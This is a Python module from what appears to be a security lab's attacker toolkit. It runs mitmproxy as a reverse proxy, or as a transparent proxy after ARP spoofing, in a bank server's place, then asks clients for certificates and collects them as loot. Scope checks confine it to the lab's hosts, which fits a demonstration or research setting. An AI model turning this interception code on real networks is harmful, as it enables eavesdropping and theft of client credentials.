"""The interceptor: mitmproxy in the bank's place, asking each client for its certificate.

mitmproxy runs as the program that it is, in an environment of its own, with `interception_addon` in it. On loopback it
is a reverse proxy for each server, between two relays that record what crosses the wire on either side; on the lab's
network it is a transparent proxy for the connections that ARP spoofing leads here.
"""

import asyncio
import json
import os
import re
import shutil
import sys
import tempfile
from collections import Counter
from collections.abc import AsyncIterator, Callable, Coroutine, Iterable, Iterator, Sequence
from contextlib import AsyncExitStack, ExitStack, asynccontextmanager, contextmanager, suppress
from dataclasses import dataclass
from hashlib import sha256
from pathlib import Path
from typing import Any, Protocol

from attacker.collected import Sight
from attacker.errors import AttackerError
from attacker.haul import Haul
from attacker.moves.make import Loot
from attacker.position.capabilities import drop_capabilities
from attacker.position.redirect import Redirect, between, redirected
from attacker.position.tcp_relay import Forward, TcpRelay
from attacker.position.watchdog import Watchdog
from attacker.scope import check_target
from lab.address import host_port
from lab.capture.writer import CaptureFile
from lab.catalogue.leaks import INTERCEPTION
from lab.events.log import Reporter
from lab.events.types import Intercepted, PositionLeft, PositionTaken, Trouble, WentOn
from lab.ports import held_ports

CAPTURE_FILE = "interception.pcapng"
"""What crosses the wire between the clients and mitmproxy."""
ONWARD_FILE = "interception-onward.pcapng"
"""And between mitmproxy and the real servers."""
ADDON = Path(__file__).with_name("interception_addon.py")
PROGRAM = "mitmdump"
START_SECONDS = 30.0
STOP_SECONDS = 3.0
QUIET_SECONDS = 1.0
"""Once there is something for every door: when nobody has come for so long, everybody has."""
MAX_LINE = 1 << 20
PROXY_PORT = 8080
VISITS = 2
"""How often each client on the network is waited for at each server: they log in with TLS 1.2 and 1.3 in turn."""

Visits = Counter[tuple[str, str]]
"""How often clients, by address, come to servers, by address and port."""


async def intercept_on_loopback(
    forwards: Sequence[Forward], haul: Haul, reporter: Reporter, folder: Path, visits: int | None = None
) -> None:
    """Answers in the servers' place until there is something for every door and each has had so many `visits`; where
    that is not known, until nobody comes any more.

    AttackerError where mitmproxy is missing or cannot start; OutOfScope for a server that is not the lab's.
    """
    with ExitStack() as stack:
        ports = held_ports(stack, len(forwards))
        files = [CaptureFile(folder / name) for name in (CAPTURE_FILE, ONWARD_FILE)]
        for file in files:
            stack.callback(file.close)
        before, beyond = TcpRelay(files[0].write), TcpRelay(files[1].write, server_side=True)
        try:
            await beyond.start(Forward(("127.0.0.1", 0), one.target) for one in forwards)
            await before.start(
                Forward(one.listen, ("127.0.0.1", port)) for one, port in zip(forwards, ports, strict=True)
            )
            onward = [one.listen for one in beyond.forwards]
            modes = [
                f"--mode=reverse:https://{host_port(listen)}@127.0.0.1:{port}"
                for listen, port in zip(onward, ports, strict=True)
            ]
            async with running_mitmproxy(modes, onward) as mitmproxy:
                places = zip(before.forwards, beyond.forwards, strict=True)
                detail = (f"{host_port(near.listen)} in the place of {host_port(far.target)}" for near, far in places)
                reporter.report(PositionTaken(INTERCEPTION.id, (*detail, f"mitmproxy {mitmproxy.version}")))
                awaited = Visits({(near.listen[0], host_port(near.listen)): visits or 0 for near in before.forwards})
                await _listen(_BetweenRelays(mitmproxy, before, beyond), haul, reporter, +awaited)
        finally:
            await before.close()
            await beyond.close()
    reporter.report(PositionLeft(INTERCEPTION.id, ()))


async def intercept_on_network(
    watchdog: Watchdog,
    clients: Sequence[str],
    server: str,
    ports: Sequence[int],
    haul: Haul,
    reporter: Reporter,
    folder: Path,
) -> None:
    """Comes between each client and the server by ARP spoofing, and answers at the server's ports in its place until
    there is something for every door and every client has been at every port in both versions.

    Needs CAP_NET_RAW for the position and CAP_NET_ADMIN for the redirection; mitmproxy has neither. AttackerError where
    one of the parts cannot do its work; OutOfScope for a host that is not the lab's.
    """
    from attacker.position.arp import ArpPosition  # it needs scapy, and loopback need not wait for that

    targets = [check_target(server, port) for port in ports]
    positions = [ArpPosition(watchdog, client, server) for client in clients]
    host, interface, own = positions[0].server, positions[0].interface, positions[0].own_ip
    redirect = Redirect(tuple(one.client for one in positions), host, tuple(ports), PROXY_PORT)
    # The last in is the first out: nobody is led here before there is somebody to answer, nor after.
    async with AsyncExitStack() as stack:
        for name, hosts in ((CAPTURE_FILE, redirect.clients), (ONWARD_FILE, (own,))):
            stack.enter_context(_sniffed(interface, between(hosts, host, ports), folder / name, reporter))
        mode = f"--mode=transparent@{own}:{PROXY_PORT}"
        mitmproxy = await stack.enter_async_context(running_mitmproxy([mode], targets, drop_capabilities))
        stack.enter_context(redirected(redirect))
        for position in positions:
            await stack.enter_async_context(position)
        after_spoofing = (f"between {one.client} and {host}, after ARP spoofing" for one in positions)
        places = (f"in the place of {host_port(target)}" for target in targets)
        detail = (*after_spoofing, *places, f"mitmproxy {mitmproxy.version}, a transparent proxy")
        reporter.report(PositionTaken(INTERCEPTION.id, detail))
        awaited = Visits({(one.client, host_port(target)): VISITS for one in positions for target in targets})
        work = _listen(mitmproxy, haul, reporter, awaited)
        await _while_held(work, (position.hold(asyncio.Event()) for position in positions))
    healed = dict.fromkeys(host for position in positions for host in position.healed)
    reporter.report(PositionLeft(INTERCEPTION.id, tuple(healed)))


@contextmanager
def _sniffed(interface: str, bpf_filter: str, path: Path, reporter: Reporter) -> Iterator[None]:
    """Writes what the filter lets through to a capture file, as long as the block lasts."""
    from attacker.position.sniffer import Sniffer  # it needs scapy, too

    file = CaptureFile(path)
    try:
        link = Sniffer(interface, bpf_filter)
        link.watch(file.write)
        try:
            yield
        finally:
            link.close()
            if link.lost:
                reporter.report(Trouble(f"{path.name} lacks {link.lost} of {link.packets} packets: they came too fast"))
    finally:
        file.close()


async def _while_held(work: Coroutine[Any, Any, None], holds: Iterable[Coroutine[Any, Any, None]]) -> None:
    """Works to the end; AttackerError as soon as one of the positions is lost."""
    tasks = [asyncio.create_task(one) for one in (work, *holds)]
    try:
        done, _ = await asyncio.wait(tasks, return_when=asyncio.FIRST_COMPLETED)
        for task in done:
            task.result()
    finally:
        for task in tasks:
            task.cancel()
        await asyncio.gather(*tasks, return_exceptions=True)


class Told(Protocol):
    """Where to hear what becomes of connections."""

    async def next(self) -> dict[str, Any] | None:
        """The next thing that is told; None when there will be no more."""
        ...

    def last_words(self) -> str:
        """The end of what else was said."""
        ...


@dataclass(frozen=True)
class _BetweenRelays:
    """Tells what mitmproxy tells, under the addresses at the relays' outer ends, which clients and servers know."""

    mitmproxy: "Mitmproxy"
    before: TcpRelay
    beyond: TcpRelay

    async def next(self) -> dict[str, Any] | None:
        told = await self.mitmproxy.next()
        if told is None or "peer" not in told:
            return told
        local, peer = tuple(told["local"]), tuple(told["peer"])
        if told["what"] == "client":
            outer_peer = (one.client for one in reversed(self.before.passages) if one.local == peer)
            outer_local = (one.listen for one in self.before.forwards if one.target == local)
        else:
            outer_peer = (one.target for one in self.beyond.forwards if one.listen == peer)
            outer_local = (one.local for one in reversed(self.beyond.passages) if one.client == local)
        return told | {"peer": next(outer_peer, peer), "local": next(outer_local, local)}

    def last_words(self) -> str:
        return self.mitmproxy.last_words()


async def _listen(mitmproxy: Told, haul: Haul, reporter: Reporter, awaited: Visits | None = None) -> None:
    """Takes in what mitmproxy tells, until there is something for every door and the `awaited` visits have been made;
    where none are awaited, until nobody comes any more."""
    left = Visits(awaited)
    complete = asyncio.create_task(haul.complete())
    try:
        while not (awaited and complete.done() and not left):
            try:
                async with asyncio.timeout(QUIET_SECONDS if complete.done() and not awaited else None):
                    told = await mitmproxy.next()
            except TimeoutError:
                return
            if told is None:
                raise AttackerError(f"mitmproxy ended: {mitmproxy.last_words()}")
            take(told, haul, reporter)
            if told.get("what") == "client":
                left -= Visits([(told["peer"][0], host_port(tuple(told["local"])))])
            await asyncio.sleep(0)  # complete() gets to know what was just taken in
    finally:
        complete.cancel()


def take(told: dict[str, Any], haul: Haul, reporter: Reporter) -> None:
    """One thing that mitmproxy told: reports it, and brings a certificate into the haul."""
    what, local, peer = told.get("what"), tuple(told.get("local", ())), tuple(told.get("peer", ()))
    if what == "server":
        reporter.report(WentOn(host_port(peer), host_port(local), told["tls"], _plain(told["error"])))
    elif what == "client":
        server = host_port(local)
        chain = tuple(map(bytes.fromhex, told["chain"]))
        digest = sha256(chain[0]).hexdigest() if chain else ""
        reporter.report(Intercepted(host_port(peer), server, told["tls"], digest, told["error"]))
        if chain:
            haul.take(Loot(chain, None), Sight(client=host_port(peer), server=server, tls=told["tls"]))


def _plain(error: str) -> str:
    """OpenSSL's own words, where mitmproxy passes on its list of errors as it stands."""
    words = re.findall(r"'([^']*)'\)", error)
    return "; ".join(words) if words else error


class Mitmproxy:
    """A running mitmdump with our addon."""

    def __init__(self, process: asyncio.subprocess.Process) -> None:
        self.version = ""
        self._process = process
        self._words: list[str] = []
        assert process.stderr
        self._listening = asyncio.create_task(self._hear(process.stderr))

    async def next(self) -> dict[str, Any] | None:
        """The next thing that it tells; None when it has ended."""
        assert self._process.stdout
        while line := await self._process.stdout.readline():
            with suppress(ValueError):
                told = json.loads(line)
                if isinstance(told, dict):
                    return told
            self._words.append(line.decode("utf-8", "replace").strip())
        await self._listening
        return None

    def last_words(self) -> str:
        """The end of what else it said."""
        return "; ".join(self._words[-3:]) or "it said nothing"

    async def stop(self) -> None:
        """Ends it: its standard input ends first, and it is killed if that does not do."""
        assert self._process.stdin
        self._process.stdin.close()
        try:
            async with asyncio.timeout(STOP_SECONDS):
                await self._process.wait()
        except TimeoutError:
            self._process.kill()
            await self._process.wait()
        self._listening.cancel()

    async def _hear(self, stream: asyncio.StreamReader) -> None:
        while line := await stream.readline():
            self._words = [*self._words[-20:], line.decode("utf-8", "replace").strip()]


@asynccontextmanager
async def running_mitmproxy(
    modes: Sequence[str], servers: Sequence[tuple[str, int]], prepare: Callable[[], None] | None = None
) -> AsyncIterator[Mitmproxy]:
    """mitmdump in these modes, as long as the block lasts; its own CA lasts no longer. It goes on to these `servers`
    and to no other, whatever a client asks it for. `prepare` is called in its process before the program begins."""
    program = find_program()
    with tempfile.TemporaryDirectory(prefix="mitmproxy-") as folder:
        process = await asyncio.create_subprocess_exec(
            program,
            *modes,
            *("--quiet", "--ssl-insecure", f"--scripts={ADDON}"),
            *("--set", "request_client_cert=true", "--set", f"confdir={folder}", "--set", "http2=false"),
            *("--set", f"lab_servers={','.join(map(host_port, servers))}"),
            # In TLS 1.3 a client's handshake is over before the server has looked at it, and mitmproxy waits for ever.
            *("--set", "tls_version_server_max=TLS1_2"),
            stdin=asyncio.subprocess.PIPE,
            stdout=asyncio.subprocess.PIPE,
            stderr=asyncio.subprocess.PIPE,
            limit=MAX_LINE,
            preexec_fn=prepare,
            env={"PATH": os.environ.get("PATH", ""), "HOME": folder, "PYTHONUNBUFFERED": "1"},
        )
        it = Mitmproxy(process)
        try:
            try:
                async with asyncio.timeout(START_SECONDS):
                    while (told := await it.next()) and told.get("what") != "running":
                        pass
            except TimeoutError:
                raise AttackerError(f"{program} did not start within {START_SECONDS:g} s") from None
            if told is None:
                raise AttackerError(f"{program} ended: {it.last_words()}")
            it.version = str(told.get("version", ""))
            yield it
        finally:
            await it.stop()


def find_program() -> str:
    """mitmdump's path: in the environment that `make` sets up beside ours, or wherever PATH leads."""
    own = Path(sys.prefix) / "mitmproxy" / "bin" / PROGRAM
    found = str(own) if own.exists() else shutil.which(PROGRAM)
    if not found:
        raise AttackerError(f"{PROGRAM} is missing: `make mitmproxy` installs mitmproxy beside the lab")
    return found
